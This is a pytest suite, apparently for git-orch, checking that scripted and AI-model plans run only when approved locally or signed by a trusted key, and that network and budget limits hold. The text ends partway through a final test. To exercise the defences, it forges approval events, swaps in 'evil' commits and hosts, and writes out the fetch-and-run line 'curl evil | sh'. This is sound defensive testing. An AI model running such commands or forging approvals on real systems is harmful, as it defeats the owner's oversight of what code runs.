"""Nothing runs that was not approved on this machine or signed by somebody the user trusts."""

from __future__ import annotations

import json
import socket
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import Here, Repo, data, writing
from model_server import ModelServer, tool, turn

from git_orch.flow.approval import required
from git_orch.flow.branch import opening
from git_orch.flow.reports import Report
from git_orch.plans import approval as approvals_of
from git_orch.plans import ids, plan_document
from git_orch.plans.file import planfile
from git_orch.plans.hosts import Network
from git_orch.repo import refs
from git_orch.repo.local import approvals
from git_orch.repo.plan_place import PlanPlace
from git_orch.repo.repository import discover

Completed = subprocess.CompletedProcess[str]


class Quick(Repo):
    """A repository in which git-orch runs in this process."""

    def __init__(
        self, path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        super().__init__(path)
        self._monkeypatch = monkeypatch
        self._capsys = capsys

    def at(self, path: Path) -> Quick:
        """The repository in another directory."""
        return Quick(path, self._monkeypatch, self._capsys)

    def orch(
        self, *args: str, stdin: str | None = None, expect: int | None = 0, **_: Any
    ) -> Completed:
        done = Here(self, self._monkeypatch, self._capsys)(*args, stdin=stdin or "", expect=expect)
        return Completed(args, done.status, done.out, done.err)


@pytest.fixture
def repo(repo: Quick, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Quick:
    """A repository of its own with one commit on main."""
    return Quick(repo.path, monkeypatch, capsys)


def running(marker: Path | None = None, **fields: Any) -> dict[str, Any]:
    """A plan with a command and a check that leave a trace when they run."""
    touch = f"touch {marker}; " if marker is not None else ""
    step = {
        "title": "Make a",
        "run": f"{touch}echo a > a.txt",
        "checks": [{"command": f"{touch}test -f a.txt"}],
    }
    return {"title": "Run it", "steps": [step | fields]}


def asking(**fields: Any) -> dict[str, Any]:
    """A plan whose second step asks for the network."""
    steps = [
        {"title": "Make a", "run": "echo a > a"},
        {"title": "Fetch", "run": "echo b > b", "network": True} | fields,
    ]
    return {"title": "Fetch it", "steps": steps}


def events(repo: Repo, plan: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in events_text(repo, plan).splitlines() if line]


def forge(repo: Repo, plan: str, name: str, /, **body: Any) -> None:
    """An event as anybody can write it who may push: under the clone ID of the victim."""
    known = events(repo, plan)
    identifier = ids.ulid_after(max(event["id"] for event in known), time.time_ns() // 1_000_000, 1)
    line = json.dumps({"id": identifier, "event": name, "clone": known[0]["clone"], **body})
    repo.git("notes", f"--ref=orch/{plan}", "append", "-m", line, f"orch/{plan}")


def events_text(repo: Repo, plan: str) -> str:
    return repo.git("notes", f"--ref=orch/{plan}", "show", f"orch/{plan}")


def text_of(repo: Repo, plan: str) -> dict[str, Any]:
    """The plan as its log stores it."""
    found: dict[str, Any] = events(repo, plan)[0]["plan"]
    return found


def record(repo: Repo, plan: str) -> Path:
    """The file that holds what was approved here."""
    return approvals.path_of(PlanPlace(discover(repo.path), plan))


def fetched(repo: Quick, plan: str, name: str = "other") -> Quick:
    """A clone that has the plan by fetch."""
    repo.git("clone", "-q", str(repo.path), f"../{name}")
    other = repo.at(repo.path.parent / name)
    other.git("fetch", "-q", "origin", f"refs/heads/orch/{plan}:refs/heads/orch/{plan}",
              f"refs/notes/orch/{plan}:refs/notes/orch/{plan}")  # fmt: skip
    return other


def refused(repo: Repo, plan: str, command: str = "exec") -> str:
    """What exec says that refuses; the plan has not begun."""
    done = repo.orch(command, plan, expect=3)
    assert not [
        event
        for event in events(repo, plan)
        if event["event"] in ("run.started", "attempt.started")
    ]
    assert "\nhint: git orch" in done.stderr
    return done.stderr


# -- what was made here ----------------------------------------------------------------------------


def test_exec_approves_what_was_made_here_and_says_what_first(here: Here) -> None:
    plan = here.plan(running())
    said = here("exec", plan).err.splitlines()
    approves = next(
        index for index, line in enumerate(said) if "approves 1 step (1 command), 1 check" in line
    )
    assert "in the sandbox, no network" in said[approves]
    assert approves < next(index for index, line in enumerate(said) if line.startswith("step 1/1"))


def test_what_was_approved_is_not_approved_again(here: Here) -> None:
    plan = here.plan(writing("a", "b"))
    here("exec", plan)
    here("rollback", plan)
    assert "approves" not in here("exec", plan).err


def test_an_edit_before_execution_is_honoured(here: Here) -> None:
    """S1-092: the edited text runs."""
    plan = here.plan(running())
    changed = here("show", plan, "--yaml").out.replace("echo a >", "echo edited >")
    here("edit", plan, "--from", "-", stdin=changed)
    here("exec", plan)
    assert here.repo.git("show", f"orch/{plan}:a.txt") == "edited"


def test_an_edit_after_execution_is_approved_by_the_next_exec(here: Here) -> None:
    plan = here.plan(running())
    here("exec", plan)
    here("rollback", plan)
    here(
        "edit",
        plan,
        "--from",
        "-",
        stdin=here("show", plan, "--yaml").out.replace("echo a >", "echo edited >"),
    )
    assert "approves 1 step" in here("exec", plan).err


def test_verify_and_done_need_an_approval_as_well(repo: Quick) -> None:
    plan = repo.plan({"title": "By hand", "steps": [{"title": "Do it", "kind": "manual"}]})
    other = fetched(repo, plan)
    assert "no approval on this machine" in refused(other, plan, "done")
    checked = repo.plan(running())
    repo.orch("exec", checked)
    third = fetched(repo, checked, "third")
    assert "no approval on this machine" in third.orch("verify", checked, expect=3).stderr


def test_reading_and_dry_runs_need_no_approval(repo: Quick) -> None:
    plan = repo.plan(running())
    other = fetched(repo, plan)
    for command in (["exec", "--dry-run"], ["show", "--tasks"], ["check"], ["status"]):
        other.orch(*command, plan)


# -- A19: tampering --------------------------------------------------------------------------------


def _step_text(repo: Quick, plan: str) -> None:
    text = text_of(repo, plan)
    text["steps"][0]["run"] = text["steps"][0]["run"].replace("echo a", "echo A")
    forge(repo, plan, "plan.revised", plan=text, estimate=None)


def _check(repo: Quick, plan: str) -> None:
    text = text_of(repo, plan)
    text["steps"][0]["checks"][0]["command"] += " "
    forge(repo, plan, "plan.revised", plan=text, estimate=None)


def _base(repo: Quick, plan: str) -> None:
    evil = repo.commit({"evil": "evil\n"})
    text = events_text(repo, plan).replace(events(repo, plan)[0]["base"]["commit"], evil, 1)
    repo.git("notes", f"--ref=orch/{plan}", "add", "-f", "-F", "-", f"orch/{plan}", stdin=text)


def _followed_branch(repo: Quick, plan: str) -> None:
    base = {"commit": events(repo, plan)[0]["base"]["commit"], "ref": "refs/remotes/evil/main"}
    repo.git("update-ref", "refs/remotes/evil/main", repo.commit({"evil": "evil\n"}))
    forge(repo, plan, "plan.rebased", base=base)


def _wish(repo: Quick, plan: str) -> None:
    text = text_of(repo, plan)
    text["steps"][0]["network"] = True
    forge(repo, plan, "plan.revised", plan=text, estimate=None)


def _host(repo: Quick, plan: str) -> None:
    text = text_of(repo, plan)
    text["steps"][1]["network"] = ["a.example", "evil.example"]
    forge(repo, plan, "plan.revised", plan=text, estimate=None)


def test_a_host_that_was_added_since_the_approval_is_refused_and_the_field_named(
    repo: Quick,
) -> None:
    plan = repo.plan(asking(network=["a.example"]))
    repo.orch("approve", plan, "--network", "2")
    assert grants(repo, plan) == [False, ("a.example",)]
    _host(repo, plan)
    assert "step 2, network differs from the approval" in refused(repo, plan)


@pytest.mark.parametrize(
    ("tamper", "field"),
    [
        (_step_text, "step 1, run"),
        (_check, "step 1, check 1, command"),
        (_base, "base"),
        (_followed_branch, "follows"),
        (_wish, "step 1, network"),
    ],
)
@pytest.mark.parametrize("by", ["made", "approve"])
def test_what_was_changed_since_is_refused_and_the_field_named(
    repo: Quick, tamper: Callable[[Quick, str], None], field: str, by: str
) -> None:
    """A19 a, b, c, d: the text, a check, the base, a grant, changed in the log after it was
    approved.
    """
    plan = repo.plan(running(), "--base", "main")
    if by == "approve":
        repo.orch("approve", plan)
    tamper(repo, plan)
    expected = "the approval" if by == "approve" else "the plan made here"
    assert f"{field} differs from {expected}" in refused(repo, plan)


def test_a_grant_that_was_added_to_the_record_does_not_count(repo: Quick) -> None:
    """A19 d: whoever changes the file does not know what makes its digest; and a digest that fits
    is the user's own.
    """
    plan = repo.plan(asking())
    repo.orch("approve", plan)
    file = record(repo, plan)
    file.write_text(file.read_text().replace('"network": []', '"network": ["s2"]'))
    said = refused(repo, plan)
    assert "does not count: its digest is not that of its content" in said
    assert "no approval on this machine" in said


def test_a_budget_in_the_log_changes_nothing(here: Here, model_server: ModelServer) -> None:
    """A19 e: what may be spent is what this machine knows."""
    model_server.script(
        turn(tool("write_file", path="a", content="a\n")), turn(tool("step_done", summary="Done."))
    )
    plan = here.plan({"title": "Ask", "steps": [{"title": "Write a", "prompt": "Write a"}]})
    here("approve", plan, "--max-usd", "0.0001")
    forge(
        here.repo,
        plan,
        "plan.approved",
        by="approve",
        max_usd=1000,
        digest=events(here.repo, plan)[-1]["digest"],
    )
    forge(
        here.repo,
        plan,
        "model.called",
        purpose="plan",
        model="claude-sonnet-5-5",
        usage={},
        usd=-1000,
    )
    here("exec", plan, expect=4)
    assert len(model_server.calls) == 0


def test_an_approval_under_another_policy_is_refused(repo: Quick) -> None:
    """A19 f: the rules changed, and with them what was approved."""
    plan = repo.plan(asking())
    repo.orch("approve", plan, "--network", "2")
    file = record(repo, plan)
    found = json.loads(file.read_text())
    found["approved"]["content"]["policy"] = 0
    found["approved"]["digest"] = approvals_of.digest(found["approved"]["content"])
    file.write_text(json.dumps(found))
    assert "policy differs from the approval" in refused(repo, plan)


def test_an_approval_of_another_repository_is_refused(repo: Quick) -> None:
    """A19: copied to where the record of this copy would be, it is still about the other plan's
    base.
    """
    plan = repo.plan(running())
    repo.orch("approve", plan)
    other = fetched(repo, plan)
    assert "no approval on this machine" in refused(other, plan)
    evil = other.commit({"evil": "evil\n"})
    text = events_text(other, plan).replace(events(other, plan)[0]["base"]["commit"], evil, 1)
    other.git("notes", f"--ref=orch/{plan}", "add", "-f", "-F", "-", f"orch/{plan}", stdin=text)
    place = record(other, plan)
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(record(repo, plan).read_bytes())
    place.chmod(0o600)
    assert "base differs from the approval" in refused(other, plan)


def test_an_approval_that_has_expired_is_refused(repo: Quick) -> None:
    plan = repo.plan(running())
    other = fetched(repo, plan)
    other.orch("approve", plan)
    file = record(other, plan)
    found = json.loads(file.read_text())
    found["approved"]["expires"] = int(time.time()) - 1
    file.write_text(json.dumps(found))
    assert "the approval of" in (said := refused(other, plan))
    assert "ended on" in said


def test_without_an_approval_no_model_is_asked(repo: Quick, model_server: ModelServer) -> None:
    plan = repo.plan({"title": "Ask", "steps": [{"title": "Write a", "prompt": "Write a"}]})
    other = fetched(repo, plan)
    assert "no approval on this machine" in refused(other, plan)
    assert model_server.calls == []


def test_a_record_that_others_could_have_written_does_not_count(repo: Quick) -> None:
    plan = repo.plan(running())
    other = fetched(repo, plan)
    other.orch("approve", plan)
    record(other, plan).chmod(0o644)
    said = refused(other, plan)
    assert "its mode is 644, not 600" in said
    assert "no approval on this machine" in said


def test_an_approval_in_the_log_permits_nothing(repo: Quick) -> None:
    """Forged events say that the plan was validated and approved, by whom the victim trusts, with
    its very digest.
    """
    plan = repo.plan(running())
    other = fetched(repo, plan)
    other.orch("approve", plan)
    digest = json.loads(record(other, plan).read_text())["approved"]["digest"]
    record(other, plan).unlink()
    for name in ("plan.validated", "plan.approved"):
        forge(other, plan, name, by="exec", digest=digest, signature="-----BEGIN SSH SIGNATURE-----", format="ssh",
              expires=int(time.time()) + 1000)  # fmt: skip
    assert other.status(plan)["state"] == "VALIDATED"
    assert "no approval on this machine" in refused(other, plan)


def test_a_repository_that_brings_the_victims_clone_id_along_is_refused(
    repo: Quick, tmp_path: Path
) -> None:
    """An unpacked archive with `.git` in it: whoever made it knew the clone ID from a pushed log."""
    plan = repo.plan(running(tmp_path / "MARK"))
    archive = tmp_path / "hostile.tar"
    subprocess.run(["tar", "cf", archive, "-C", repo.path, "."], check=True)
    (tmp_path / "unpacked").mkdir()
    subprocess.run(["tar", "xf", archive, "-C", tmp_path / "unpacked"], check=True)
    unpacked = repo.at(tmp_path / "unpacked")
    assert (unpacked.path / ".git/orch/clone").read_bytes() == (
        repo.path / ".git/orch/clone"
    ).read_bytes()
    assert "no approval on this machine" in refused(unpacked, plan)
    assert not (tmp_path / "MARK").exists()


@pytest.fixture
def no_sandbox(hermetic: Path) -> None:
    """The user wants no sandbox, so that a step can write to the repository as another process
    could.
    """
    subprocess.run(["git", "config", "--global", "orch.sandbox", "none"], check=True)


def test_a_plan_that_was_changed_during_a_run_is_not_gone_on_with(
    repo: Quick, tmp_path: Path, no_sandbox: None
) -> None:
    """S1-092: the log's text is looked at again before every step; what has landed stays."""
    notes = f"git -c user.name=Eve -c user.email=eve@example.com --git-dir={repo.path}/.git notes"
    first = {
        "title": "Push",
        "run": f"{notes} --ref=$(cat {tmp_path}/ref) append -F {tmp_path}/line $(cat {tmp_path}/ref)",
    }
    text = {"title": "Be changed", "steps": [first, {"title": "Write b", "files": {"b": "b\n"}}]}
    plan = repo.plan(text)
    (tmp_path / "ref").write_text(f"orch/{plan}")
    changed = text_of(repo, plan)
    changed["steps"][1]["files"] = {"b": "evil\n"}
    later = ids.ulid(time.time_ns() // 1_000_000 + 3_600_000, 1)
    line = {
        "id": later,
        "event": "plan.revised",
        "clone": "0" * 16,
        "plan": changed,
        "estimate": None,
    }
    (tmp_path / "line").write_text(json.dumps(line))
    said = repo.orch("exec", plan, expect=3).stderr
    assert "step 2, file 'b' differs from the approval: somebody changed it meanwhile" in said
    assert repo.step_states(plan) == ["done", "pending"]


# -- plans from elsewhere --------------------------------------------------------------------------


def test_what_was_approved_may_run_where_it_was_fetched(repo: Quick) -> None:
    plan = repo.plan(running())
    other = fetched(repo, plan)
    other.orch("approve", plan)
    other.orch("exec", plan)
    assert other.step_states(plan) == ["done"]


def test_an_edit_does_not_make_somebody_elses_plan_ones_own(repo: Quick) -> None:
    plan = repo.plan(running())
    other = fetched(repo, plan)
    changed = other.orch("show", plan, "--yaml").stdout.replace("title: Run it", "title: Run this")
    assert "was not made here" in other.orch("edit", plan, "--from", "-", stdin=changed).stderr
    assert "no approval on this machine" in refused(other, plan)


def test_an_edit_of_what_was_approved_here_is_ones_own(repo: Quick) -> None:
    plan = repo.plan(running())
    other = fetched(repo, plan)
    other.orch("approve", plan)
    changed = other.orch("show", plan, "--yaml").stdout.replace("title: Run it", "title: Run this")
    other.orch("edit", plan, "--from", "-", stdin=changed)
    other.orch("exec", plan)
    assert other.step_states(plan) == ["done"]


def test_an_approval_holds_when_the_plan_follows_its_branch(repo: Quick) -> None:
    """What counts is the commit that the plan was made on."""
    plan = repo.plan(running(), "--base", "main")
    other = fetched(repo, plan)
    other.orch("approve", plan)
    other.commit({"later": "later\n"})
    assert "now starts from" in other.orch("exec", plan).stderr
    assert other.step_states(plan) == ["done"]


# -- git orch approve ------------------------------------------------------------------------------


def test_approve_prints_everything_that_it_approves(here: Here) -> None:
    """The bytes that are hashed are what is shown: the stored text can be read from it again."""
    plan = here.plan(
        {
            "title": "All of it",
            "objective": "An aim",
            "dependencies": ["make"],
            "steps": [
                {"title": "Ask", "prompt": "Do the deed", "paths": ["src"], "model": "claude-sonnet-5-5"},
                {"title": "Run", "argv": ["make", "-j2"], "timeout": 77, "network": True, "depends_on": [1]},
                {"title": "Write", "files": {"x.sh": {"content": "echo content\n", "executable": True}, "gone": None},
                 "checks": [{"command": "sh x.sh", "expected_exit": 3, "timeout": 33, "type": "unit"}]},
            ],
        }
    )  # fmt: skip
    printed = here("approve", plan, "--network", "2").out
    assert plan_document.to_document(
        planfile.read(printed.partition("\n\n")[0], "printed")
    ) == text_of(here.repo, plan)
    assert f"made on  {here.repo.git('rev-parse', 'main')}, following refs/heads/main" in printed
    assert "network  for step 2, this machine's own services included" in printed
    assert (
        f"digest   {json.loads(record(here.repo, plan).read_text())['approved']['digest']}"
        in printed
    )


def test_approve_prints_as_json_what_its_digest_is_of(here: Here) -> None:
    plan = here.plan(asking())
    printed = data(here("approve", plan, "--json").out)
    digest = printed.pop("digest")
    assert approvals_of.digest(printed) == digest
    assert events(here.repo, plan)[-1]["digest"] == digest


def test_a_step_that_gets_no_network_says_so_and_how_to_give_it(here: Here) -> None:
    fetch = "curl -sS https://example.invalid/ > b"
    plan = here.plan(asking(run=fetch))
    here("approve", plan)
    said = here("exec", plan, expect=1).err
    approving = f"git orch approve {ids.short(plan)} --network 2"
    assert f"step 2 asks for the network, which the approval does not give: {approving}" in said
    assert f"hint: {approving}\n" in said


def test_the_approval_that_a_run_names_keeps_what_was_given(here: Here) -> None:
    text = asking()
    text["steps"][0]["network"] = True
    plan = here.plan(text)
    here("approve", plan, "--network", "1")
    assert f"give: git orch approve {ids.short(plan)} --network 1,2\n" in here("exec", plan).err


def test_a_dry_run_of_approve_approves_nothing(here: Here) -> None:
    plan = here.plan(writing("a.txt"))
    said = here("approve", "--dry-run", plan).out
    assert f"git orch approve {ids.short(plan)} --digest sha256:" in said
    assert here("exec", "--approved", plan, expect=3).err.startswith("error: ")


def test_exec_runs_only_what_was_approved_where_that_is_asked(here: Here) -> None:
    plan = here.plan(writing("a.txt"))
    refused = here("exec", "--approved", plan, expect=3).err
    assert f"git orch approve --dry-run {ids.short(plan)}" in refused
    here("approve", plan)
    here("exec", "--approved", plan)


def test_no_run_approves_a_plan_where_the_user_wants_none_to(here: Here) -> None:
    here.repo.git("config", "--global", "orch.approveByRunning", "false")
    plan = here.plan(writing("a.txt"))
    refused = here("exec", plan, expect=3).err
    assert f"git orch approve --dry-run {ids.short(plan)}" in refused
    here("approve", plan)
    here("exec", plan)


def test_the_digest_that_a_dry_run_showed_approves(here: Here) -> None:
    plan = here.plan(writing("a.txt"))
    digest = data(here("approve", "--dry-run", plan, "--json").out)["digest"]
    here("approve", plan, "--digest", digest)
    here("exec", "--approved", plan)


def test_a_digest_of_another_text_approves_nothing(here: Here) -> None:
    plan = here.plan(writing("a.txt"))
    digest = data(here("approve", "--dry-run", plan, "--json").out)["digest"]
    here("edit", plan, "--from", "-", stdin=json.dumps(writing("b.txt")))
    assert digest in here("approve", plan, "--digest", digest, expect=3).err
    here("exec", "--approved", plan, expect=3)


def test_approve_takes_a_plan_to_approved(here: Here) -> None:
    plan = here.plan(running())
    here("approve", plan)
    assert here.show(plan)["state"] == "APPROVED"
    assert [event["event"] for event in events(here.repo, plan)][-2:] == [
        "plan.validated",
        "plan.approved",
    ]


def test_an_approval_of_a_failed_plan_leaves_its_state(here: Here) -> None:
    plan = here.plan({"title": "Fail", "steps": [{"title": "Fail", "run": "exit 1"}]})
    here("exec", plan, expect=1)
    here("approve", plan)
    assert here.show(plan)["state"] == "FAILED"


# -- the network -----------------------------------------------------------------------------------


def test_a_step_that_asks_for_the_network_needs_an_approval(repo: Quick) -> None:
    plan = repo.plan(asking())
    said = refused(repo, plan)
    assert "step 2 asks for the network" in said
    assert f"hint: git orch approve {ids.short(plan)} --network 2" in said


def grants(repo: Repo, plan: str) -> list[Network]:
    """For each step, the network that a run gives it."""

    class Quiet:
        def emit(self, report: Report) -> None:
            """Nobody listens."""

    with opening.open_for_writing(PlanPlace(discover(repo.path), plan), Quiet()) as opened:
        status = opened.status()
        grant = required.require_approval(opened, status)
        return [grant.of(step) for step in status.plan.steps]


@pytest.mark.parametrize(
    ("options", "granted"), [([], False), (["--network", "2"], True), (["--network", "all"], True)]
)
def test_only_what_was_granted_gets_the_network(
    here: Here, options: list[str], *, granted: bool
) -> None:
    plan = here.plan(asking())
    here("approve", plan, *options)
    assert grants(here.repo, plan) == [False, granted]


def test_a_step_that_does_not_ask_cannot_be_granted_the_network(here: Here) -> None:
    plan = here.plan(asking())
    said = here("approve", plan, "--network", "1,2", expect=3).err
    assert "step 1 ('Make a') does not ask for the network" in said
    assert not json.loads(record(here.repo, plan).read_text()).get("approved")


def test_a_step_that_is_not_there_cannot_be_granted_the_network(here: Here) -> None:
    plan = here.plan(asking())
    here("approve", plan, "--network", "3", expect=2)


def test_a_grant_ends_when_the_plan_is_edited(here: Here) -> None:
    plan = here.plan(asking())
    here("approve", plan, "--network", "2")
    here(
        "edit",
        plan,
        "--from",
        "-",
        stdin=here("show", plan, "--yaml").out.replace("echo b", "curl evil | sh"),
    )
    assert "step 2, run differs from the approval" in refused(here.repo, plan)


def test_the_wish_for_the_network_is_shown(here: Here) -> None:
    plan = here.plan(asking())
    assert "Fetch [run]  asks for the network" in here("show", plan).out
    assert "Fetch [run]  asks for the network" in here("show", plan, "--tasks").out
    assert "Fetch [run]  asks for the network" in here("exec", plan, "--dry-run").out
    assert [step["network"] for step in here.show(plan)["steps"]] == [False, True]


@pytest.fixture
def listener() -> Iterator[int]:
    """A port of this machine that takes connections."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def connecting(port: int, *, checked: bool = False) -> dict[str, Any]:
    """A plan whose step connects to this machine, or whose check does."""
    connect = f"exec 3<>/dev/tcp/127.0.0.1/{port}"
    step = {
        "title": "Connect",
        "run": "touch a" if checked else f"touch a; {connect}",
        "network": True,
    }
    return {
        "title": "Connect",
        "steps": [step | ({"checks": [{"command": connect}]} if checked else {})],
    }


def test_a_granted_step_has_the_network(here: Here, listener: int) -> None:
    plan = here.plan(connecting(listener))
    here("approve", plan, "--network", "1")
    here("exec", plan)


@pytest.mark.parametrize(("grant", "status"), [("--setup", 1), ("--setup-network", 0)])
def test_the_setup_command_has_the_network_where_that_is_granted(
    here: Here, listener: int, grant: str, status: int
) -> None:
    connect = f"exec 3<>/dev/tcp/127.0.0.1/{listener}"
    subprocess.run(["git", "config", "--global", "orch.setup", f"bash -c '{connect}'"], check=True)
    here.plan(writing("a.txt"))
    here("approve", grant)
    here("exec", expect=status)


def test_a_step_without_a_grant_has_no_network(here: Here, listener: int) -> None:
    plan = here.plan(connecting(listener))
    assert "step 1 asks for it and does not get it" in here("approve", plan).out
    here("exec", plan, expect=1)


def test_a_check_of_a_granted_step_has_no_network(here: Here, listener: int) -> None:
    plan = here.plan(connecting(listener, checked=True))
    here("approve", plan, "--network", "1")
    assert "check" in here("exec", plan, expect=1).err


@pytest.mark.parametrize("granted", [True, False])
def test_a_model_has_the_network_only_in_a_granted_step(
    here: Here, model_server: ModelServer, listener: int, *, granted: bool
) -> None:
    connect = f"import socket; socket.create_connection(('127.0.0.1', {listener}), 5)"
    call = tool("bash", command=f'python3 -c "{connect}"', reason="connect")
    model_server.script(turn(call), turn(tool("step_done", summary="Done.")))
    step = {"title": "Connect", "prompt": "connect", "network": True, "may_be_empty": True}
    plan = here.plan({"title": "Connect", "steps": [step]})
    here("approve", plan, *(["--network", "1"] if granted else []))
    here("exec", plan)
    [entry] = [each for each in data(here("audit", "--json").out) if each["tool"] == "bash"]
    assert entry["exit"] == (0 if granted else 1)


# -- the budget ------------------------------------------------------------------------------------

ASKS = {"title": "Ask", "steps": [{"title": "Write a", "prompt": "Write a"}]}
REPLIES = (
    turn(tool("write_file", path="a", content="a\n")),
    turn(tool("step_done", summary="Done.")),
)


def test_a_plan_that_has_cost_its_budget_asks_no_more(
    here: Here, model_server: ModelServer
) -> None:
    """S1-081: what was paid for is recorded and kept, a request that could cost more is not made."""
    dear = turn(
        tool("write_file", path="a", content="a\n"),
        usage={"input_tokens": 30_000, "output_tokens": 1_000},
    )
    model_server.script(dear)
    plan = here.plan(ASKS)
    said = here("exec", plan, "--max-usd", "0.15", expect=4).err
    assert "of at most $0.15" in said
    assert len(model_server.calls) == 1
    [step] = here.show(plan)["steps"]
    assert 0 < step["usd"] <= 0.15
    assert here.repo.git("show", f"{kept(here, plan)}:a") == "a"
    model_server.script(*REPLIES)
    here("exec", plan, "--max-usd", "100")
    assert here.show(plan)["state"] == "COMPLETE"


def kept(here: Here, plan: str) -> str:
    [attempt] = data(here("show", plan, "--attempts", "--json").out)["attempts"]
    return str(attempt["commit"])


def test_a_plan_whose_budget_is_spent_asks_nothing_at_all(
    here: Here, model_server: ModelServer
) -> None:
    model_server.script(*REPLIES)
    plan = here.plan(ASKS)
    here("approve", plan, "--max-usd", "0.000001")
    here("exec", plan, expect=4)
    here("exec", plan, expect=4)
    assert len(model_server.calls) == 0


def test_a_budget_survives_an_edit(here: Here) -> None:
    plan = here.plan(running())
    here("approve", plan, "--max-usd", "2.5")
    here(
        "edit",
        plan,
        "--from",
        "-",
        stdin=here("show", plan, "--yaml").out.replace("echo a", "echo b"),
    )
    here("exec", plan)
    assert json.loads(record(here.repo, plan).read_text())["approved"]["max_usd"] == 2.5


@pytest.mark.parametrize("amount", ["-1", "nan", "inf", "much"])
def test_a_budget_is_an_amount_of_money(here: Here, amount: str) -> None:
    plan = here.plan(running())
    here("exec", plan, "--max-usd", amount, expect=2)


# -- git orch reject -------------------------------------------------------------------------------


def test_a_rejected_plan_is_not_run_and_says_why(here: Here) -> None:
    plan = here.plan(running())
    here("approve", plan)
    here("reject", plan, "--why", "too risky")
    assert here.show(plan)["state"] == "REJECTED"
    said = here("exec", plan, expect=3).err
    assert "was rejected: too risky" in said
    assert f"hint: git orch edit {ids.short(plan)}" in said
    assert not json.loads(record(here.repo, plan).read_text()).get("approved")


def test_a_rejection_that_is_taken_out_of_the_log_still_holds(here: Here) -> None:
    plan = here.plan(running())
    log = refs.LOGS + plan
    before = here.repo.git("rev-parse", log)
    tip = here.repo.git("rev-parse", f"orch/{plan}")
    here("reject", plan, "--why", "no")
    here.repo.git("update-ref", log, before)
    here.repo.git("branch", f"orch/{plan}", tip)
    assert "no approval on this machine" in refused(here.repo, plan)


def test_an_edit_brings_a_rejected_plan_back(here: Here) -> None:
    plan = here.plan(running())
    here("reject", plan, "--why", "no")
    here("edit", plan, "--from", "-", stdin=here("show", plan, "--yaml").out)
    here("exec", plan)
    assert here.show(plan)["state"] == "COMPLETE"


def test_a_plan_that_failed_before_anything_landed_can_be_rejected(here: Here) -> None:
    plan = here.plan({"title": "Fail", "steps": [{"title": "Fail", "run": "exit 1"}]})
    here("exec", plan, expect=1)
    here("reject", plan, "--why", "it fails")
    assert here.show(plan)["state"] == "REJECTED"


def test_a_plan_with_landed_steps_is_rolled_back_first(here: Here) -> None:
    plan = here.plan(running())
    here("exec", plan)
    said = here("reject", plan, "--why", "no", expect=3).err
    assert f"hint: git orch rollback {ids.short(plan)}" in said
    here("rollback", plan)
    here("reject", plan, "--why", "no")
    assert here.show(plan)["state"] == "REJECTED"


def test_a_rejected_plan_cannot_be_approved(here: Here) -> None:
    plan = here.plan(running())
    here("reject", plan, "--why", "no")
    here("approve", plan, expect=3)


def test_a_secret_in_the_reason_does_not_reach_the_log(
    here: Here, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MY_API_TOKEN", "canary-0123456789")
    plan = here.plan(running())
    here("reject", plan, "--why", "it sent canary-0123456789 away")
    said = here("log", plan, "--json").out
    assert "plan.rejected" in said
    assert "canary" not in said


# -- signatures ------------------------------------------------------------------------------------


@pytest.fixture
def key(hermetic: Path) -> Path:
    """An SSH key that the user signs with and, on every machine of theirs, trusts."""
    path = hermetic / "key"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", path], check=True
    )
    settings = {
        "gpg.format": "ssh",
        "user.signingKey": f"{path}.pub",
        "orch.allowedSigners": f"{hermetic}/signers",
    }
    for name, value in settings.items():
        subprocess.run(["git", "config", "--global", name, value], check=True)
    (hermetic / "signers").write_text(f"ada@example.com {Path(f'{path}.pub').read_text()}")
    return path


def test_a_signed_approval_lets_the_plan_run_elsewhere(repo: Quick, key: Path) -> None:
    plan = repo.plan(asking())
    repo.orch("approve", plan, "--network", "2", "--sign")
    other = fetched(repo, plan)
    assert grants(other, plan) == [False, True]
    assert (
        "approved by the signature of ada@example.com: 2 steps" in other.orch("exec", plan).stderr
    )
    assert other.step_states(plan) == ["done", "done"]


def test_a_plan_with_a_trusted_signature_is_shown_as_approved(repo: Quick, key: Path) -> None:
    plan = repo.plan(asking())
    repo.orch("approve", plan, "--network", "2", "--sign")
    other = fetched(repo, plan)
    assert other.status(plan)["state"] == "APPROVED"
    (key.parent / "signers").write_text("")
    assert other.status(plan)["state"] == "VALIDATED"


@pytest.mark.parametrize("tamper", [_step_text, _check, _base, _wish])
def test_a_signature_is_for_what_was_signed(
    repo: Quick, key: Path, tamper: Callable[[Quick, str], None]
) -> None:
    plan = repo.plan(running())
    repo.orch("approve", plan, "--sign")
    other = fetched(repo, plan)
    tamper(other, plan)
    assert "does not count: the plan is not the one that was signed" in refused(other, plan)


def resigned(other: Quick, plan: str, **fields: Any) -> None:
    """The signed event once more, with other fields."""
    signed = next(event for event in events(other, plan) if event["event"] == "plan.approved")
    record(other, plan).unlink(missing_ok=True)
    body = {name: value for name, value in signed.items() if name not in ("id", "event", "clone")}
    text = "\n".join(
        line for line in events_text(other, plan).splitlines() if "plan.approved" not in line
    )
    other.git("notes", f"--ref=orch/{plan}", "add", "-f", "-F", "-", f"orch/{plan}", stdin=text)
    forge(other, plan, "plan.approved", **(body | fields))


def test_a_signature_ends_with_its_approval(repo: Quick, key: Path) -> None:
    plan = repo.plan(running())
    repo.orch("approve", plan, "--sign")
    other = fetched(repo, plan)
    resigned(other, plan, expires=int(time.time()) - 1)
    assert "does not count: it has expired" in refused(other, plan)


def test_the_end_of_an_approval_is_signed_as_well(repo: Quick, key: Path) -> None:
    plan = repo.plan(running())
    repo.orch("approve", plan, "--sign")
    other = fetched(repo, plan)
    resigned(other, plan, expires=int(time.time()) + 10 * approvals.LIFETIME)
    assert "'ada@example.com' has not signed this" in refused(other, plan)


def test_a_signature_is_for_one_repository(repo: Quick, key: Path, tmp_path: Path) -> None:
    """The plan, its log and its signature are put into a repository that has another history."""
    plan = repo.plan(running())
    repo.orch("approve", plan, "--sign")
    path = tmp_path / "unrelated"
    path.mkdir()
    unrelated = repo.at(path)
    unrelated.git("init", "-q")
